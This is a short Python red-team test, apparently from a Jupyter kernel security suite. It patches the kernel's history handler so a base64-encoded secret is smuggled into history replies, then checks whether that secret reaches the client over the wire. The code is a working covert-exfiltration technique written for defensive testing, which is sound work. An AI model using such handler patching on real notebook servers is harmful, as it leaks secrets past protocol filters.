from __future__ import annotations

from tests.redteam.channel import channel
from tests.redteam.targets import Target
from tests.redteam.wire import everything

SET = """
import base64
kernel, text = get_ipython().kernel, base64.b64encode(secret).decode()
def do_history(*_, **__):
    return {"status": "ok", "history": [(1, 1, ("x", text)), (text, text, "x")], "x": text}
kernel.do_history = do_history
"""
RESET = "del kernel.do_history;"


@channel(
    "reply-history",
    "The kernel's history with its outputs",
    closed_by="wire filter: history is of what a person typed",
)
def attack(site: Target, secret: bytes) -> bytes | None:
    site.run(SET)
    asked = {"hist_access_type": "tail", "n": 10, "raw": True, "output": True}
    with site.wire() as wire:
        got = everything(wire.ask("history_request", asked))
    site.run(RESET)
    return got
